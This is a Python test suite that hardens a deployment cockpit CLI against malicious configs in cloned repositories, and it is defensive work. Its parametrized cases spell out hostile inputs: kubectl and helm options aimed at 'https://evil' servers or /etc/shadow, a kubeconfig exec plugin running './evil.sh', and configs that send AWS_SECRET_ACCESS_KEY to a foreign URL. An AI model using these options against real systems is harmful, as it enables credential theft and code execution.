"""Reader programs are found through PATH only, and a config found in the current folder must be
the user's own: a cloned repository cannot ship a `./helm` and a `./cockpit.toml` that runs it.
"""

from __future__ import annotations

import os
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from cockpit.cli import main
from cockpit.core.config import ConfigError, load_config, load_config_file
from cockpit.core.deploys import list_deploys
from cockpit.core.deploys.history import read_history_command
from cockpit.core.deploys.model import DeployError
from cockpit.core.readers import ReaderRefused, locate_program, reader_argv

NOW = datetime.now(UTC).replace(microsecond=0)


@pytest.fixture
def fake_helm(tmp_path: Path) -> tuple[Path, Path]:
    """An executable named `helm` that records that it ran and prints one revision."""
    fired = tmp_path / "helm-ran"
    folder = tmp_path / "tools"
    folder.mkdir()
    helm = folder / "helm"
    updated = (NOW - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    helm.write_text(
        "#!/bin/sh\n"
        f'echo "$0 $*" >> {fired}\n'
        f'echo \'[{{"revision": 7, "updated": "{updated}", "status": "deployed",'
        ' "chart": "checkout-1.0", "app_version": "1.0"}]\'\n'
    )
    helm.chmod(0o755)
    return helm, fired


def _config(folder: Path, program: str, *, trusted: list[str] | None = None) -> Path:
    path = folder / "cockpit.toml"
    trusted_line = f"trusted_binaries = {trusted!r}\n".replace("'", '"') if trusted else ""
    path.write_text(
        f"[cockpit]\nstore = 'incidents.db'\n{trusted_line}"
        "[[services]]\nname = 'checkout'\n[services.deploys]\n"
        f'history_command = ["{program}", "history", "checkout", "-o", "json"]\n'
    )
    path.chmod(0o600)
    return path


@pytest.mark.parametrize("program", ["./helm", "tools/helm", "../x/helm"])
def test_a_relative_program_never_runs(program, tmp_path, fake_helm, monkeypatch) -> None:
    helm, fired = fake_helm
    monkeypatch.chdir(helm.parent.parent)
    (helm.parent.parent / "helm").symlink_to(helm)
    with pytest.raises(ReaderRefused, match="relative program path"):
        reader_argv([program, "history", "checkout"])
    with pytest.raises(DeployError, match="relative program path"):
        read_history_command([program, "history", "checkout"])
    assert not fired.exists()


def test_path_lookup_skips_the_current_folder(tmp_path, fake_helm, monkeypatch) -> None:
    helm, fired = fake_helm
    monkeypatch.chdir(helm.parent)
    # An empty entry, `.` and a relative entry all mean "the current folder" to a shell.
    monkeypatch.setenv("PATH", os.pathsep.join(["", ".", "tools", "/nonexistent-bin"]))
    location = locate_program("helm")
    assert location.path is None and "not on PATH" in location.how
    with pytest.raises(DeployError, match="not installed"):
        read_history_command(["helm", "history", "checkout"])
    assert not fired.exists()


def test_an_absolute_program_runs_only_when_trusted(tmp_path, fake_helm) -> None:
    helm, fired = fake_helm
    location = locate_program(str(helm))
    assert location.path is None and "trusted_binaries" in location.how
    with pytest.raises(DeployError, match="trusted_binaries"):
        read_history_command([str(helm), "history", "checkout", "-o", "json"])
    assert not fired.exists()
    trusted = locate_program(str(helm), [str(helm)])
    assert trusted.path == str(helm) and trusted.how == "trusted_binaries"
    text = read_history_command(
        [str(helm), "history", "checkout", "-o", "json"], trusted_binaries=[str(helm)]
    )
    assert '"revision": 7' in text and fired.exists()


def test_trusted_binaries_from_the_config_let_the_listing_run(tmp_path, fake_helm) -> None:
    helm, fired = fake_helm
    refused = list_deploys(load_config_file(_config(tmp_path, str(helm))))
    assert refused.deploys == [] and "trusted_binaries" in refused.errors[0]
    assert not fired.exists()
    allowed = list_deploys(load_config_file(_config(tmp_path, str(helm), trusted=[str(helm)])))
    assert [d.revision for d in allowed.deploys] == ["7"] and allowed.errors == []


def test_a_program_on_path_resolves_to_its_absolute_path(tmp_path, fake_helm, monkeypatch):
    helm, _ = fake_helm
    monkeypatch.setenv("PATH", str(helm.parent))
    location = locate_program("helm")
    assert location.path == str(helm) and location.how == "PATH"
    assert reader_argv(["helm", "history", "checkout"])[0] == str(helm)
    # The same file named by its absolute path is what PATH finds anyway: no trust needed.
    assert locate_program(str(helm)).path == str(helm)


def test_a_symlink_named_like_a_reader_is_not_that_reader(tmp_path) -> None:
    fake = tmp_path / "kubectl"
    fake.symlink_to("/bin/sh")
    location = locate_program(str(fake))
    assert location.path is None and "not kubectl" in location.how


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('["./helm"]', "expected an absolute path"),
        ('["bin/helm"]', "expected an absolute path"),
        ('["/usr/bin/sh"]', "not a reader program"),
    ],
)
def test_trusted_binaries_must_be_absolute_reader_paths(tmp_path, value, expected) -> None:
    path = tmp_path / "c.toml"
    path.write_text(f"[cockpit]\ntrusted_binaries = {value}\n")
    with pytest.raises(ConfigError, match=expected) as info:
        load_config_file(path)
    assert "cockpit.trusted_binaries" in str(info.value) and str(path) in str(info.value)


def test_a_cloned_repo_with_its_own_helm_and_config_runs_nothing(
    tmp_path, fake_helm, monkeypatch, capsys
) -> None:
    """The attack: `cd` into a cloned repo that ships `./helm` and `./cockpit.toml`."""
    helm, fired = fake_helm
    clone = tmp_path / "clone"
    clone.mkdir()
    (clone / "helm").write_bytes(helm.read_bytes())
    (clone / "helm").chmod(0o755)
    _config(clone, "./helm")
    monkeypatch.chdir(clone)
    monkeypatch.delenv("COCKPIT_CONFIG", raising=False)
    monkeypatch.setenv("PATH", os.pathsep.join(["", ".", "/usr/bin", "/bin"]))
    assert main(["deploys", "--since", "7d"]) == 2
    err = capsys.readouterr().err
    assert "relative program path './helm' refused" in err
    assert not fired.exists()


def test_a_found_config_owned_by_someone_else_is_refused(tmp_path, monkeypatch, capsys) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to give the file to another user (chown)")
    path = _config(tmp_path, "helm")
    os.chown(path, 65534, 65534)
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("COCKPIT_CONFIG", raising=False)
    with pytest.raises(ConfigError, match="owned by uid 65534, not you"):
        load_config()
    with pytest.raises(SystemExit) as exit_info:
        main(["deploys"])
    assert exit_info.value.code == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "--config FILE to load it anyway" in err
    # Named explicitly, it is the user's choice.
    assert load_config(path).source_path == path.resolve()


@pytest.mark.parametrize(("mode", "who"), [(0o620, "its group"), (0o606, "others")])
def test_a_found_config_others_can_write_is_refused(tmp_path, monkeypatch, mode, who) -> None:
    path = _config(tmp_path, "helm")
    path.chmod(mode)
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("COCKPIT_CONFIG", raising=False)
    with pytest.raises(ConfigError, match=f"writable by {who}"):
        load_config()
    path.chmod(0o644)  # readable by others is fine; writable is not
    assert load_config().source_path == path.resolve()


@pytest.mark.parametrize(
    "argv",
    [
        # Another kubeconfig: its `exec` credential plugin is a program kubectl runs.
        ["kubectl", "rollout", "history", "deploy/checkout", "--kubeconfig", "./kubeconfig"],
        ["kubectl", "rollout", "history", "deploy/checkout", "--kubeconfig=./kubeconfig"],
        ["kubectl", "rollout", "history", "deploy/checkout", "-n", "--kubeconfig=./kc"],
        ["helm", "history", "checkout", "--kubeconfig", "./kubeconfig"],
        # Another server: it receives the user's token.
        ["kubectl", "rollout", "history", "deploy/checkout", "--server", "https://evil"],
        ["kubectl", "rollout", "history", "deploy/checkout", "-shttps://evil"],
        ["helm", "history", "checkout", "--kube-apiserver=https://evil"],
        ["argocd", "app", "history", "web", "--server", "evil.example.com"],
        ["argocd", "app", "history", "web", "--config", "./argocd-config"],
        ["argocd", "app", "history", "web", "--plaintext"],
        # Files written or read elsewhere.
        ["kubectl", "rollout", "history", "deploy/checkout", "--log-file=/tmp/x"],
        ["kubectl", "rollout", "history", "deploy/checkout", "--cache-dir", "/tmp/x"],
        ["kubectl", "get", "-f", "https://evil/manifest.yaml"],
        ["kubectl", "rollout", "history", "deploy/x", "-o", "go-template-file=/etc/shadow"],
        ["helm", "history", "checkout", "--registry-config", "./r.json"],
        ["helm", "history", "checkout", "-o"],
    ],
)
def test_history_command_options_are_allowlisted(argv: list[str]) -> None:
    """A config names the history command's options: none may point the tool at another
    config, credential plugin or server, or make it write a file."""
    with pytest.raises(ReaderRefused, match=r"not allowed|needs a value"):
        reader_argv(argv)


@pytest.mark.parametrize(
    "argv",
    [
        ["helm", "history", "checkout", "-n", "prod", "--kube-context", "eu", "-o", "json"],
        ["helm", "history", "checkout", "--max=20", "--output=yaml"],
        ["kubectl", "rollout", "history", "deployment/checkout", "-n", "prod", "--context=eu"],
        ["kubectl", "rollout", "history", "deployment/checkout", "--revision", "3", "-o", "json"],
        ["argocd", "app", "history", "web", "--grpc-web", "-o", "wide"],
    ],
)
def test_history_command_keeps_the_everyday_options(argv, tmp_path, monkeypatch) -> None:
    program = tmp_path / argv[0]
    program.write_text("#!/bin/sh\nexit 0\n")
    program.chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path))
    assert reader_argv(argv) == [str(program), *argv[1:]]


def _kubeconfig_with_exec_plugin(folder: Path, canary: Path) -> Path:
    """A kubeconfig whose user authenticates through an `exec` plugin: `./evil.sh`."""
    script = folder / "evil.sh"
    script.write_text(
        f'#!/bin/sh\necho ran >> {canary}\necho \'{{"apiVersion": '
        '"client.authentication.k8s.io/v1beta1", "kind": "ExecCredential", '
        '"status": {"token": "x"}}\'\n'
    )
    script.chmod(0o755)
    kubeconfig = folder / "kubeconfig"
    kubeconfig.write_text(
        "apiVersion: v1\nkind: Config\ncurrent-context: c\n"
        "clusters:\n- name: c\n  cluster:\n    server: https://127.0.0.1:9\n"
        "contexts:\n- name: c\n  context: {cluster: c, user: u}\n"
        "users:\n- name: u\n  user:\n    exec:\n"
        "      apiVersion: client.authentication.k8s.io/v1beta1\n"
        "      command: ./evil.sh\n      interactiveMode: Never\n"
    )
    return kubeconfig


@pytest.mark.parametrize("real", [False, True], ids=["kubectl-on-path", "real-kubectl"])
def test_a_cloned_repos_kubeconfig_plugin_never_runs(real, tmp_path, monkeypatch, capsys) -> None:
    """The attack: a cloned repo's `./cockpit.toml` points kubectl at the repo's own
    kubeconfig, whose exec plugin is the repo's script."""
    import shutil

    clone = tmp_path / "clone"
    clone.mkdir()
    canary = tmp_path / "plugin-ran"
    _kubeconfig_with_exec_plugin(clone, canary)
    if real:
        if shutil.which("kubectl") is None:
            pytest.skip("needs kubectl on PATH to show the real exec plugin stays unrun")
    else:
        bin_dir = tmp_path / "bin"
        bin_dir.mkdir()
        (bin_dir / "kubectl").write_text(f"#!/bin/sh\necho kubectl >> {canary}\n")
        (bin_dir / "kubectl").chmod(0o755)
        monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}/usr/bin{os.pathsep}/bin")
    (clone / "cockpit.toml").write_text(
        "[cockpit]\nstore = 'incidents.db'\n"
        "[[services]]\nname = 'checkout'\n[services.deploys]\n"
        'history_command = ["kubectl", "rollout", "history", "deployment/checkout",'
        ' "--kubeconfig", "./kubeconfig"]\n'
    )
    (clone / "cockpit.toml").chmod(0o600)
    monkeypatch.chdir(clone)
    monkeypatch.delenv("COCKPIT_CONFIG", raising=False)
    assert main(["deploys", "--since", "7d"]) == 2
    err = capsys.readouterr().err
    assert "'--kubeconfig' is not allowed" in err
    assert not canary.exists()


def test_a_found_config_may_not_trust_its_own_binaries(tmp_path, fake_helm, monkeypatch, capsys):
    """`/proc/self/cwd/tools/helm` is an absolute path into the clone: a config that comes
    with the folder may not list it in `trusted_binaries`."""
    helm, fired = fake_helm
    clone = tmp_path / "clone"
    (clone / "tools").mkdir(parents=True)
    (clone / "tools" / "helm").write_bytes(helm.read_bytes())
    (clone / "tools" / "helm").chmod(0o755)
    inside = "/proc/self/cwd/tools/helm"
    config = _config(clone, inside, trusted=[inside])
    monkeypatch.chdir(clone)
    monkeypatch.delenv("COCKPIT_CONFIG", raising=False)
    with pytest.raises(SystemExit) as exit_info:
        main(["deploys", "--since", "7d"])
    assert exit_info.value.code == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "trusted_binaries" in err and "--config" in err
    assert not fired.exists()
    # Named on the command line, trusting it is the user's choice.
    assert main(["--config", str(config), "deploys", "--since", "7d"]) == 0
    assert fired.exists()


SECRET_SENDING_CONFIGS = {
    "loki token_env": "[[sources]]\nkind = 'loki'\nname = 'logs'\nurl = '{url}'\n"
    "selector = '{{app=\"x\"}}'\ntoken_env = 'AWS_SECRET_ACCESS_KEY'\n",
    "elasticsearch token_env": "[[sources]]\nkind = 'elasticsearch'\nname = 'es'\n"
    "url = '{url}'\ntoken_env = 'AWS_SECRET_ACCESS_KEY'\n",
    "alertmanager token_env": "[[alertmanagers]]\nurl = '{url}'\n"
    "token_env = 'AWS_SECRET_ACCESS_KEY'\n",
    "postgresql store": "[cockpit]\nstore = 'postgresql://postgres@127.0.0.1:1/x'\n",
    "password_env": "[cockpit]\nstore = 'postgresql://postgres@127.0.0.1:1/x'\n"
    "password_env = 'AWS_SECRET_ACCESS_KEY'\n",
}


@pytest.mark.parametrize("name", sorted(SECRET_SENDING_CONFIGS))
@pytest.mark.parametrize("command", [["search", "error"], ["alerts"], ["timeline"]])
def test_a_found_config_may_not_send_secrets_anywhere(name, command, tmp_path, monkeypatch, capsys):
    """A cloned repo's `./cockpit.toml` naming `token_env = "AWS_SECRET_ACCESS_KEY"` beside
    its own server's URL once sent the key as a bearer token."""
    from tests.fakes.loki import FakeLoki

    server = FakeLoki().start()
    try:
        clone = tmp_path / "clone"
        clone.mkdir()
        path = clone / "cockpit.toml"
        path.write_text(SECRET_SENDING_CONFIGS[name].format(url=server.url))
        path.chmod(0o600)
        monkeypatch.chdir(clone)
        monkeypatch.delenv("COCKPIT_CONFIG", raising=False)
        monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
        with pytest.raises(SystemExit) as exit_info:
            main(command)
        assert exit_info.value.code == 2
        err = capsys.readouterr().err.strip()
        assert err.count("\n") == 0 and "found in the current folder" in err, err
        assert "--config" in err
        assert server.requests == []
    finally:
        server.stop()


def test_the_found_config_owner_is_checked_on_the_file_read(tmp_path) -> None:
    """The owner check looks at the open file (fstat), so swapping the name after a check
    cannot slip another file in."""
    from cockpit.core.safe_files import read_regular_text

    path = tmp_path / "c.toml"
    path.write_text("x = 1\n")
    seen: list[os.stat_result] = []
    assert read_regular_text(path, what="TOML config", check=seen.append) == "x = 1\n"
    assert seen[0].st_ino == path.stat().st_ino

    def refuse(info) -> None:
        raise ConfigError("refused")

    with pytest.raises(ConfigError, match="refused"):
        read_regular_text(path, what="TOML config", check=refuse)
